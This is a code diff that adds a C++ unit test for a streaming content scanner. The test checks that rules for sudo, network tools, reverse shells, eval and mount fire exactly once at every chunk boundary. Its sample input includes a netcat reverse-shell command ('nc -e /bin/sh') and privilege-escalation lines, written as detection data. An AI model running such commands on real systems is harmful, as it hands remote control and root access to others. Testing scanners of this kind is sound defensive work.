@@ -739,6 +739,30 @@ TEST(ScanStreamTest, SplitAtEveryOffsetFindsEachSecretExactlyOnce) {
   EXPECT_EQ(violations, 0u);
 }
 
+// Rules the anchor finder nominates (on CPUs with AVX-512 VBMI; elsewhere
+// Hyperscan does): found once wherever the chunks are cut, never inside
+// words.
+TEST(ScanStreamTest, AnchoredRulesAtEveryCut) {
+  const std::string text =
+      "amount sync\nsudo -i; nc -e /bin/sh h 1\nfunc retrieval(x)\nSU -c id; eval(x)\n"
+      "tail umount /mnt";
+  auto expected = Key(Default().Scan(text, "stdout"));
+  std::vector<std::string> ids;
+  for (const auto& k : expected) ids.push_back(std::get<0>(k));
+  for (const char* id :
+       {"code-sudo", "code-network-tools", "code-reverse-shell", "code-eval", "code-mount"}) {
+    EXPECT_THAT(ids, ::testing::Contains(id));
+  }
+  uint64_t violations = 0;
+  for (size_t cut = 0; cut <= text.size(); ++cut) {
+    EXPECT_EQ(Key(ScanInChunks(text, {cut}, &violations)), expected) << "cut at " << cut;
+  }
+  std::vector<size_t> cuts;
+  for (size_t i = 1; i < text.size(); ++i) cuts.push_back(i);
+  EXPECT_EQ(Key(ScanInChunks(text, cuts, &violations)), expected);
+  EXPECT_EQ(violations, 0u);
+}
+
 TEST(ScanStreamTest, ByteByByte) {
   const std::string text = StreamText();
   std::vector<size_t> cuts;
